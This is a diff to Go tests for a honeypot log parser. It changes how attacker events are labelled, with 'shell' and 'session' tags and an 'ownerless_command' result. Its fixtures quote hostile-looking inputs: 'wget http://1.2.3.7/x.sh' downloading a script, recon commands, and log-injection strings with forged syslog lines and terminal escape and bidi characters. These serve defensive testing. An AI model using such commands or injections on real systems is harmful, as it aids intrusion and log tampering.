@@ -24,8 +24,11 @@ func show(ev *event.Event) string {
 	if ev.Phase&event.Exfil != 0 {
 		b.WriteString(" exfil")
 	}
-	if ev.Handshake {
+	switch ev.Proof {
+	case event.ByConnection:
 		b.WriteString(" handshake")
+	case event.ByShell, event.BySession:
+		b.WriteString(" " + ev.Proof.String())
 	}
 	if ev.Large {
 		b.WriteString(" large")
@@ -166,7 +169,7 @@ func TestDECNETLines(t *testing.T) {
 		{
 			"a file",
 			`<134>1 ` + stamp + ` d ssh - file_captured [relay@55555 stored_as="s" sha256="15dcde1ea7108d817a54084ee2692e6d3752541ca9482b6c94352e952d880c1f" size="1048576" orig_path="/tmp/x" src_ip="89.61.198.201" attribution="pid-chain" writer_comm="wget"]`,
-			`89.61.198.201 d/ssh file_captured interaction handshake large | artifact "15dcde1ea7108d817a54084ee2692e6d3752541ca9482b6c94352e952d880c1f" "file" stored_as=s size=1048576 orig_path=/tmp/x attribution=pid-chain writer_comm=wget`,
+			`89.61.198.201 d/ssh file_captured interaction session large | artifact "15dcde1ea7108d817a54084ee2692e6d3752541ca9482b6c94352e952d880c1f" "file" stored_as=s size=1048576 orig_path=/tmp/x attribution=pid-chain writer_comm=wget`,
 		},
 		{
 			"SNMP proves no address",
@@ -201,17 +204,17 @@ func TestDECNETLines(t *testing.T) {
 		{
 			"our own probe",
 			`<134>1 ` + stamp + ` decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="45.9.148.10" target_port="443" jarm_hash="2ad2"] JARM 45.9.148.10:443 = 2ad2`,
-			`45.9.148.10 / jarm_fingerprint scan prober | fingerprint "jarm" "2ad2" target_port=443`,
+			`45.9.148.10 / jarm_fingerprint scan handshake prober | fingerprint "jarm" "2ad2" target_port=443`,
 		},
 		{
 			"our own probe of a stack",
 			`<134>1 ` + stamp + ` decnet-prober prober - tcpfp_fingerprint [relay@55555 target_ip="45.9.148.10" tcpfp_hash="aa" ttl="52" window_size="64240" sack_ok="1" timestamp="0" options_order="M,S"]`,
-			`45.9.148.10 / tcpfp_fingerprint scan prober | stack 52 0 window=64240 options_sig=M,S has_sack=true has_timestamps=false | fingerprint "tcpfp" "aa" ttl=52 window_size=64240 sack_ok=1 timestamp=0 options_order=M,S`,
+			`45.9.148.10 / tcpfp_fingerprint scan handshake prober | stack 52 0 window=64240 options_sig=M,S has_sack=true has_timestamps=false | fingerprint "tcpfp" "aa" ttl=52 window_size=64240 sack_ok=1 timestamp=0 options_order=M,S`,
 		},
 		{
 			"an SSH server's key exchange",
 			`<134>1 ` + stamp + ` decnet-prober prober - hassh_fingerprint [relay@55555 target_ip="45.9.148.10" hassh_server_hash="b1" kex_algorithms="c,d"]`,
-			`45.9.148.10 / hassh_fingerprint scan prober | fingerprint "hassh_server" "b1" kex_algorithms=c,d | kex "c,d"`,
+			`45.9.148.10 / hassh_fingerprint scan handshake prober | fingerprint "hassh_server" "b1" kex_algorithms=c,d | kex "c,d"`,
 		},
 		{
 			"a sensor that starts",
@@ -226,12 +229,12 @@ func TestDECNETLines(t *testing.T) {
 		{
 			"a shell line, wrapped twice",
 			`<14>1 2026-01-02T03:04:06+00:00 dockerhost 1 - - - 2026-01-02T03:04:06.000001+00:00 decky-01 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=45.9.148.10 pwd=/root cmd=id; uname -a`,
-			`45.9.148.10 decky-01/ssh command interaction exfil | command "id; uname -a"`,
+			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "id; uname -a"`,
 		},
 		{
 			"a shell line without structured data",
 			`<14>1 ` + stamp + ` decky-08 bash - - - CMD uid=0 user=root src=::ffff:45.9.150.1 pwd=/root cmd=id`,
-			`45.9.150.1 decky-08/ssh command interaction exfil | command "id"`,
+			`45.9.150.1 decky-08/ssh command interaction exfil shell | command "id"`,
 		},
 		{
 			"a login at the shell's door",
@@ -241,7 +244,7 @@ func TestDECNETLines(t *testing.T) {
 		{
 			"a recorded session",
 			`<134>1 ` + stamp + ` d sessrec - session_recorded [relay@55555 sid="4119f4d9" service="telnet" src_ip="89.61.198.201" duration_s="800.274" bytes="724944" truncated="false"]`,
-			`89.61.198.201 d/telnet session_recorded interaction handshake | session "4119f4d9" 800274 0`,
+			`89.61.198.201 d/telnet session_recorded interaction shell | session "4119f4d9" 800274 0`,
 		},
 		{
 			"a mutation", `<134>1 ` + stamp + ` decky-08 mutator - decky_mutated [relay@55555 decky="decky-08" src_ip="1.1.1.1"]`,
@@ -313,29 +316,29 @@ func TestDECNETInjection(t *testing.T) {
 	}{
 		{
 			"a relay element in a command", head + `echo [relay@55555 src_ip="6.6.6.6" command="x"]`,
-			`45.9.148.10 decky-01/ssh command interaction exfil | command "echo [relay@55555 src_ip=\"6.6.6.6\" command=\"x\"]"`,
+			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "echo [relay@55555 src_ip=\"6.6.6.6\" command=\"x\"]"`,
 		},
 		{
 			"another address in a command", head + `ls src=6.6.6.6 cmd=rm`,
-			`45.9.148.10 decky-01/ssh command interaction exfil | command "ls src=6.6.6.6 cmd=rm"`,
+			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "ls src=6.6.6.6 cmd=rm"`,
 		},
 		{
 			"a whole line in a command", head + "ls\n<134>1 " + stamp + ` d ssh - x [relay@55555 src_ip="6.6.6.6"]`,
-			`45.9.148.10 decky-01/ssh command interaction exfil | command "ls\\x0a<134>1 2026-01-02T03:04:05.678901+00:00 d ssh - x [relay@55555 src_ip=\"6.6.6.6\"]"`,
+			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "ls\\x0a<134>1 2026-01-02T03:04:05.678901+00:00 d ssh - x [relay@55555 src_ip=\"6.6.6.6\"]"`,
 		},
 		{
 			"colours and bidi in a command", head + "a\x1b[31m\u202eb\xff",
-			`45.9.148.10 decky-01/ssh command interaction exfil | command "a\\x1b[31m\\u202eb�"`,
+			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "a\\x1b[31m\\u202eb�"`,
 		},
 		{
 			"an address in a telnet command",
 			`<14>1 ` + stamp + ` decky-02 bash - command [timeQuality tzKnown="1"] CMD uid=0 pwd=/root cmd=wget http://1.2.3.7/x.sh from 1.2.3.8 src=1.2.3.9`,
-			`unattributed/no_address`,
+			`unattributed/ownerless_command`,
 		},
 		{
 			"an address in a directory's name",
 			`<14>1 ` + stamp + ` decky-02 bash - command - CMD uid=0 pwd=/tmp/x src=6.6.6.6 cmd=ls`,
-			`unattributed/no_address`,
+			`unattributed/ownerless_command`,
 		},
 		{
 			"an address in a user's name",
@@ -426,11 +429,11 @@ func TestDECNETDocumentAddress(t *testing.T) {
 	}{
 		{
 			"the collector may have read the message", doc(`"service":"bash","event_type":"command","fields":{},"msg":"CMD uid=0 pwd=/ cmd=wget 45.9.148.10"`),
-			`unattributed/no_address`,
+			`unattributed/ownerless_command`,
 		},
 		{
 			"the shell's own word", doc(`"service":"bash","event_type":"command","fields":{},"msg":"CMD uid=0 src=1.1.1.1 pwd=/ cmd=wget 45.9.148.10"`),
-			`1.1.1.1 d/ssh command interaction exfil | command "wget 45.9.148.10"`,
+			`1.1.1.1 d/ssh command interaction exfil shell | command "wget 45.9.148.10"`,
 		},
 		{"nothing else there", doc(`"service":"ssh","event_type":"connect"`), `45.9.148.10 d/ssh connect scan recon handshake`},
 		{"nobody", doc(`"service":"smtp","event_type":"disconnect","fields":{"src":"?"}`), `unattributed/no_address`},
